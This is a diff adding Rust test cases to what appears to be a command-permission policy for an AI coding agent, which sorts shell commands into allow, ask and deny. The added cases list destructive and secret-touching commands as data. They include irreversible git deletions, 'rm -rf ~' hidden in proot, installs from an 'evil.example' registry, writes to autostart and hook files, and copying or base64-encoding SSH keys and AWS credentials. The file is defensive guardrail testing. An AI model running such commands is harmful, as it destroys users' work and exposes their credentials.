@@ -138,6 +138,97 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     ("ask", "ask", "programmer-hook.add-project", "programmer-hook add-project --test 'sh evil.sh'"),
     ("ask", "allow", "tool.write", "tool:Write /home/user/project/a.txt"),
     ("ask", "allow", "tool.write", "tool:Edit /home/user/project/README.md"),
+    // Never relaxed: what it does cannot be taken back. Discarding uncommitted work.
+    ("ask", "ask", "git.discard-changes", "git restore src/a.rs"),
+    ("ask", "ask", "git.discard-changes-worktree", "git restore --staged --worktree src/a.rs"),
+    ("ask", "ask", "git.discard-checkout-paths", "git checkout -- src/a.rs"),
+    ("ask", "ask", "git.discard-checkout-paths", "git checkout HEAD~1 -- Cargo.lock"),
+    ("ask", "ask", "git.discard-checkout-paths", "git checkout README.md"),
+    ("ask", "ask", "git.discard-other", "git stash drop"),
+    ("ask", "ask", "git.discard-other", "git worktree remove --force ../wt"),
+    ("ask", "ask", "git.discard-other", "git rm -f src/a.rs"),
+    ("ask", "ask", "git.discard-other", "git clean -d -x"),
+    // Deleting refs, the reflog, unreachable objects.
+    ("ask", "ask", "git.delete-refs", "git branch -D feature"),
+    ("ask", "ask", "git.delete-refs", "git branch -M main"),
+    ("ask", "ask", "git.delete-refs", "git tag -d v1.0"),
+    ("ask", "ask", "git.delete-history", "git reflog expire --expire=now --all"),
+    ("ask", "ask", "git.delete-history", "git reflog delete HEAD@{1}"),
+    ("ask", "ask", "git.delete-history", "git gc --prune=now"),
+    ("ask", "ask", "git.delete-history", "git prune"),
+    ("ask", "ask", "git.delete-history", "git update-ref -d refs/heads/x"),
+    ("ask", "ask", "git.delete-history", "git filter-repo --path src"),
+    // Deleting or rewriting refs on the remote.
+    ("ask", "ask", "git.remote-delete", "git push origin :feature"),
+    ("ask", "ask", "git.remote-delete", "git push origin --delete feature"),
+    ("ask", "ask", "git.remote-delete", "git push --prune origin 'refs/heads/*:refs/heads/*'"),
+    ("deny", "deny", "git.force-push", "git push --mirror origin"),
+    ("deny", "deny", "git.force-push-refspec", "git push origin +main"),
+    // Installing from outside the registry.
+    ("ask", "ask", "pkg.install-url", "npm i https://example.com/x.tgz"),
+    ("ask", "ask", "pkg.install-url", "pip install git+https://github.com/x/y"),
+    ("ask", "ask", "pkg.install-url", "cargo install --git https://github.com/x/y"),
+    ("ask", "ask", "pkg.install-url", "npm i github:user/repo"),
+    ("ask", "ask", "pkg.install-url", "uv pip install git+ssh://git@host/x"),
+    ("ask", "ask", "pkg.install-shorthand", "npm i user/repo"),
+    ("ask", "ask", "pkg.install-outside", "npm i ../x"),
+    ("ask", "ask", "pkg.install-outside", "cargo install --path ../tool"),
+    ("ask", "ask", "pkg.install-source-option", "npm i --registry evil.example x"),
+    ("ask", "ask", "pkg.install-pip-index", "pip install -i evil.example/simple x"),
+    ("ask", "ask", "pkg.third-party-source", "brew tap someone/tools"),
+    ("ask", "allow", "pkg.install", "npm i @scope/name"),
+    ("ask", "allow", "pkg.install", "pip install -e ."),
+    ("ask", "allow", "pkg.install", "cargo install ripgrep"),
+    // Writing a file another program runs later, or the agent reads as instructions.
+    ("ask", "ask", "file.write-runs-later", "echo 'repos: []' > .pre-commit-config.yaml"),
+    ("ask", "ask", "file.write-runs-later", "tool:Write /home/user/project/lefthook.yml"),
+    ("ask", "ask", "file.write-runs-later", "tool:Edit /home/user/project/.husky/pre-commit"),
+    ("ask", "ask", "file.write-runs-later", "tool:Write /home/user/project/.devcontainer/devcontainer.json"),
+    ("ask", "ask", "file.write-runs-later", "tool:Write /home/user/project/.vscode/tasks.json"),
+    ("ask", "ask", "file.write-runs-later", "tool:Write /home/user/project/.mcp.json"),
+    ("ask", "ask", "file.write-runs-later", "cp x.sh .husky/pre-push"),
+    ("ask", "ask", "file.write-runs-later", "cp tool ~/.local/bin/tool"),
+    ("ask", "ask", "file.write-runs-later", "tool:Write /home/user/.config/systemd/user/x.service"),
+    ("ask", "ask", "file.write-runs-later", "tool:Write /home/user/.config/autostart/x.desktop"),
+    ("ask", "ask", "file.write-runs-later", "tool:Write /home/user/.claude/CLAUDE.md"),
+    ("ask", "ask", "file.write-outside", "tool:Write /home/user/other/AGENTS.md"),
+    ("deny", "deny", "path.secret-write", "echo 'use nix' > .envrc"),
+    ("ask", "allow", "tool.write", "tool:Write /home/user/project/CLAUDE.md"),
+    ("ask", "allow", "tool.write", "tool:Write /home/user/project/src/hooks.rs"),
+    // Packing or copying secrets.
+    ("ask", "ask", "fs.archive-secret", "tar czf backup.tgz ~/.ssh"),
+    ("ask", "ask", "fs.archive-secret", "zip -r a.zip .env"),
+    ("ask", "ask", "fs.archive-secret", "base64 ~/.ssh/id_ed25519"),
+    ("ask", "ask", "file.read-secret", "cp ~/.aws/credentials ./creds"),
+    ("ask", "allow", "fs.change", "tar czf src.tgz src"),
+    // Reset-hard equivalents are Forbidden, as `git reset --hard` is.
+    ("deny", "deny", "git.discard-all-force", "git checkout -f"),
+    ("deny", "deny", "git.discard-all-force", "git checkout --force main"),
+    ("deny", "deny", "git.discard-all-force", "git switch --discard-changes main"),
+    ("deny", "deny", "git.discard-all-force", "git switch -f main"),
+    ("deny", "deny", "git.discard-all", "git restore ."),
+    ("deny", "deny", "git.discard-all", "git checkout -- :/"),
+    ("deny", "deny", "git.discard-all-worktree", "git restore --staged --worktree ."),
+    ("deny", "deny", "git.discard-all-plumbing", "git read-tree --reset -u HEAD"),
+    ("deny", "deny", "git.discard-all-plumbing", "git checkout-index -a -f"),
+    ("deny", "deny", "git.clean-force", "git clean -fdx"),
+    ("deny", "deny", "git.stash-clear", "git stash clear"),
+    // Still relaxable: local and recoverable.
+    ("ask", "allow", "git.write", "git checkout main"),
+    ("ask", "allow", "git.write", "git checkout -b feature/x"),
+    ("ask", "allow", "git.write", "git switch -c feature"),
+    ("ask", "allow", "git.write", "git restore --staged src/a.rs"),
+    ("ask", "allow", "git.write", "git stash"),
+    ("ask", "allow", "git.write", "git stash pop"),
+    ("ask", "allow", "git.write", "git branch feature"),
+    ("ask", "allow", "git.write", "git tag v1.0"),
+    ("ask", "allow", "git.write", "git gc"),
+    ("ask", "allow", "git.write", "git rm --cached build.log"),
+    ("ask", "allow", "git.write", "git push -u origin feature"),
+    // A forbidden command hidden in the arguments of a program that may run it.
+    ("deny", "deny", "exec.hidden-forbidden", "proot rm -rf ~"),
+    ("deny", "deny", "exec.hidden-forbidden", "ssh host 'git reset --hard'"),
+    ("ask", "ask", "unknown.command", "proot ls"),
     // Safe and Forbidden never change.
     ("allow", "allow", "git.read", "git status"),
     ("allow", "allow", "read.list", "ls -la"),
@@ -361,6 +452,22 @@ fn every_default_confirm_rule_is_classified() {
         "fs.find-delete-outside",
         "path.secret-named",
         "path.protected-named",
+        // Never relaxed: understood, but what they do cannot be taken back.
+        "git.discard-changes",
+        "git.discard-changes-worktree",
+        "git.discard-checkout-paths",
+        "git.discard-other",
+        "git.delete-refs",
+        "git.delete-history",
+        "git.remote-delete",
+        "pkg.install-url",
+        "pkg.install-source-option",
+        "pkg.install-pip-index",
+        "pkg.install-shorthand",
+        "pkg.install-outside",
+        "pkg.third-party-source",
+        "file.write-runs-later",
+        "fs.archive-secret",
     ];
     let p = Policy::builtin().expect("default policy");
     let mut wrong = Vec::new();
@@ -395,6 +502,71 @@ fn every_default_confirm_rule_is_classified() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// Every Confirm rule of the default policy names what it does (`effect`); a relaxable one
+/// names a local, recoverable effect, no rule naming another is relaxable, and no contained
+/// one (relaxed inside the sandbox) names an effect the sandbox does not undo either.
+#[test]
+fn every_default_confirm_rule_names_its_effect() {
+    use programmer_hook::engine::policy::schema::{
+        IRREVERSIBLE_EFFECTS, NEVER_RELAXED_EFFECTS, RELAXABLE_EFFECTS,
+    };
+    let p = Policy::builtin().expect("default policy");
+    let mut wrong = Vec::new();
+    for r in p.rules().iter().filter(|r| r.tier == Tier::Confirm) {
+        match r.effect.as_deref() {
+            None => wrong.push(format!("{} names no effect", r.id)),
+            Some(e) if r.relaxable && !RELAXABLE_EFFECTS.contains(&e) => {
+                wrong.push(format!("{} is relaxable with the effect {e}", r.id))
+            }
+            Some(e) if r.contained && IRREVERSIBLE_EFFECTS.contains(&e) => {
+                wrong.push(format!("{} is contained with the effect {e}", r.id))
+            }
+            Some(e) if !r.relaxable && !r.contained && !NEVER_RELAXED_EFFECTS.contains(&e) => {
+                wrong.push(format!("{} is opaque with the relaxable effect {e}", r.id))
+            }
+            _ => {}
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// The audit line and `policy check --json` say which effect made a call relaxable or not.
+#[test]
+fn the_audit_log_and_check_say_which_effect_decided() {
+    let m = Machine::get();
+    let cases: &[(&str, &str, &str)] = &[
+        ("git commit -m effect-logged", "allow", "git-recoverable"),
+        ("git branch -D effect-logged", "ask", "delete-refs"),
+        (
+            "npm i https://example.com/effect-logged.tgz",
+            "ask",
+            "install-unvetted",
+        ),
+        ("echo x > .pre-commit-config.yaml", "ask", "runs-later"),
+    ];
+    for (cmd, _, _) in cases {
+        m.example(AUTO, cmd);
+    }
+    let files = audit::files(&m.state_dir());
+    let (entries, _) = audit::read(&files, &audit::Filter::default(), usize::MAX).expect("log");
+    for (cmd, decision, effect) in cases {
+        let e = entries
+            .iter()
+            .rev()
+            .find(|e| e.subject == *cmd)
+            .unwrap_or_else(|| panic!("no audit entry for {cmd}"));
+        assert_eq!(
+            (e.decision.as_str(), e.effect.as_deref()),
+            (*decision, Some(*effect)),
+            "{e:?}"
+        );
+        let policy = Policy::builtin().expect("default policy");
+        let d = programmer_hook::engine::examples::run_example(&policy, cmd).expect("classifies");
+        let v = programmer_hook::cli::decision_json(cmd, &d);
+        assert_eq!(v["effect"], *effect, "{v}");
+    }
 }
 
 /// The audit log keeps the tier of a call that autonomy let run (Confirm, relaxed by
